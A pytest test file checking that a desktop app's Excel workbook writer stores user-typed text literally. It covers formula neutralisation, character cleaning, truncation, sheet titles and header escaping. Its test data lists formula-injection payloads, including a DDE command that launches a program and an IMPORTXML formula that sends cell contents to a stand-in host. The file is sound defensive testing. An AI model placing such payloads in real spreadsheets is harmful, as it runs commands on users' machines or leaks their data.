"""Whatever the official typed comes out literally: never a formula, never a broken file."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest

from desktop.models.knowledge.types import KnowledgeBase
from desktop.models.matching.types import MatchResult
from desktop.models.profile import Profile
from desktop.models.text import Text
from desktop.models.vocabulary import Figure
from desktop.models.workbook.safe import (
    MAX_CELL_CHARS,
    clean_text,
    escape_header_footer,
    needs_quote_prefix,
    safe_sheet_title,
)
from desktop.models.workbook.writer import write_workbook
from tests.helpers.workbook_inputs import make_action
from tests.helpers.workbook_reading import ZH_ACTION_HEADERS, calamine_rows, column, open_book, sheet_xml

# Strings that a spreadsheet would turn into formulas, links, errors, numbers or dates if it were careless.
INJECTIONS = [
    '=HYPERLINK("http://x","y")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "\t=1+1",
    "＝1+1",
    "=A1\n=B1",
    "#N/A",
    "#DIV/0!",
    "0123",
    "1e5",
    "TRUE",
    "2024-01-01",
    "'quoted",
    "  =SUM(1,2)",
    "-",
]


def _utf16_len(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.fixture
def injected(tmp_path: Path, profile: Profile, result: MatchResult, kb: KnowledgeBase) -> Path:
    """A plan whose every user-typed field holds one of the injection strings."""
    actions = [
        make_action(number, title=Text.same(text), owner=text, notes=text, id=f"user.{number}")
        for number, text in enumerate(INJECTIONS, start=1)
    ]
    zone = profile.with_changes(name=INJECTIONS[0], province="=1+1", city="@A1", goals="+1", notes="-1-1")
    target = tmp_path / "plan.xlsx"
    write_workbook(target, profile=zone, result=result, actions=actions, kb=kb, generated_on=date(2026, 3, 2))
    return target


def test_typed_text_comes_back_literally_as_strings(injected: Path) -> None:
    ws = open_book(injected)["行动计划"]
    for header in ("行动", "责任人", "备注"):
        cells = [ws.cell(row=row, column=column(ws, header)) for row in range(2, 2 + len(INJECTIONS))]
        assert [cell.value for cell in cells] == INJECTIONS
        assert {cell.data_type for cell in cells} == {"s"}


def test_text_that_looks_like_a_formula_keeps_a_quote_prefix(injected: Path) -> None:
    ws = open_book(injected)["行动计划"]
    for row, text in enumerate(INJECTIONS, start=2):
        cell = ws.cell(row=row, column=column(ws, "责任人"))
        assert cell.quotePrefix == needs_quote_prefix(text), text
    assert ws.cell(row=2, column=column(ws, "责任人")).quotePrefix  # =HYPERLINK(...)


def test_the_workbook_holds_no_formula_at_all(injected: Path) -> None:
    book = open_book(injected)
    kinds = {cell.data_type for ws in book for row in ws.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds and "e" not in kinds
    for name, xml in sheet_xml(injected).items():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in xml and "<f " not in xml, name


def test_profile_fields_are_literal_too(injected: Path) -> None:
    book = open_book(injected)
    assert book["概览"]["A1"].value == '=HYPERLINK("http://x","y") 产业集群对标行动计划'
    fields = {row[0].value: row[1] for row in book["开发区档案"].iter_rows(min_row=2) if row[0].value}
    for name, expected in [("开发区名称", INJECTIONS[0]), ("省份", "=1+1"), ("城市", "@A1"), ("发展目标", "+1")]:
        assert fields[name].value == expected
        assert fields[name].data_type == "s"
        assert fields[name].quotePrefix
    assert book.properties.title == '=HYPERLINK("http://x","y") 产业集群对标行动计划'


def test_a_second_reader_sees_the_same_literal_text(injected: Path) -> None:
    rows = calamine_rows(injected, "行动计划")
    at = ZH_ACTION_HEADERS.index("责任人")
    assert [row[at] for row in rows[1:]] == INJECTIONS
    assert all(isinstance(row[at], str) for row in rows[1:])
    profile_rows = calamine_rows(injected, "开发区档案")
    assert ["开发区名称", INJECTIONS[0], ""] in profile_rows


def test_forbidden_characters_are_replaced_and_the_file_still_opens(
    tmp_path: Path, profile: Profile, result: MatchResult, kb: KnowledgeBase
) -> None:
    nasty = "A\x00B\x07C\x1bD\ud800E\uffffF\r\nG"
    action = make_action(1, notes=nasty, owner="\x0b")
    target = tmp_path / "plan.xlsx"
    write_workbook(target, profile=profile.with_changes(name=nasty), result=result, actions=[action], kb=kb)
    ws = open_book(target)["行动计划"]
    expected = "A\ufffdB\ufffdC\ufffdD\ufffdE\ufffdF\nG"
    assert ws.cell(row=2, column=column(ws, "备注")).value == expected
    assert ws.cell(row=2, column=column(ws, "责任人")).value == "\ufffd"
    assert calamine_rows(target, "开发区档案")[3][1] == expected


def test_text_too_long_for_a_cell_is_cut_with_a_visible_mark(
    tmp_path: Path, profile: Profile, result: MatchResult, kb: KnowledgeBase
) -> None:
    long_notes = "长" * 40_000
    astral = "𠀀" * 20_000  # 40,000 UTF-16 units: Excel counts these twice
    actions = [make_action(1, notes=long_notes, owner=astral)]
    target = tmp_path / "plan.xlsx"
    write_workbook(target, profile=profile.with_changes(goals="目" * 32_767), result=result, actions=actions, kb=kb)
    ws = open_book(target)["行动计划"]
    notes = ws.cell(row=2, column=column(ws, "备注")).value
    owner = ws.cell(row=2, column=column(ws, "责任人")).value
    for text in (notes, owner):
        assert _utf16_len(text) <= MAX_CELL_CHARS
        assert text.endswith("…〔内容过长，已截断〕")
    assert notes.startswith("长" * 30_000)
    goals = calamine_rows(target, "开发区档案")
    assert ["发展目标", "目" * 32_767, ""] in goals  # exactly at the limit: kept whole


def test_clean_text_leaves_ordinary_text_alone() -> None:
    assert clean_text("示例高新区\t第一期\n(2026)", "…") == "示例高新区\t第一期\n(2026)"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("行动计划", "行动计划"),
        ("a/b\\c?d*e[f]g:h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("", "Sheet"),
        ("History", "Sheet History"),
        ("tab\x01here", "tab_here"),
    ],
)
def test_sheet_titles_are_made_acceptable_to_excel(title: str, expected: str) -> None:
    assert safe_sheet_title(title) == expected


def test_sheet_titles_stay_unique_regardless_of_case() -> None:
    assert safe_sheet_title("Plan", ["plan"]) == "Plan (2)"
    assert safe_sheet_title("Plan", ["plan", "Plan (2)"]) == "Plan (3)"
    assert len(safe_sheet_title("y" * 31, ["y" * 31])) == 31


SHEET_NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def test_ampersands_in_page_headers_are_printed_not_taken_for_codes() -> None:
    assert escape_header_footer("A&B 开发区 &P") == "A&&B 开发区 &&P"
    assert len(escape_header_footer("区" * 500)) <= 80


def test_zone_name_with_ampersand_prints_as_typed(
    tmp_path: Path, profile: Profile, result: MatchResult, kb: KnowledgeBase
) -> None:
    target = tmp_path / "plan.xlsx"
    write_workbook(target, profile=profile.with_changes(name="A&B&12区"), result=result, actions=[], kb=kb)
    # Read the XML itself: openpyxl's own header parser takes the "12" after "&&" for a font size.
    # Parsed, because the XML may write the Chinese as character references (openpyxl does through lxml).
    sheet = ElementTree.fromstring(sheet_xml(target)["xl/worksheets/sheet2.xml"])
    header = sheet.find("main:headerFooter/main:oddHeader", {"main": SHEET_NAMESPACE})
    assert header is not None and "A&&B&&12区 产业集群对标行动计划" in (header.text or "")


def test_a_figure_excel_cannot_store_is_shown_as_text(
    tmp_path: Path, profile: Profile, result: MatchResult, kb: KnowledgeBase
) -> None:
    strange = profile.with_changes(figures={Figure.AREA_KM2: float("inf"), Figure.ENTERPRISES: float("nan")})
    target = tmp_path / "plan.xlsx"
    write_workbook(target, profile=strange, result=result, actions=[], kb=kb)
    fields = {row[0]: row[1] for row in calamine_rows(target, "开发区档案")}
    assert (fields["规划面积"], fields["企业数"]) == ("inf", "nan")
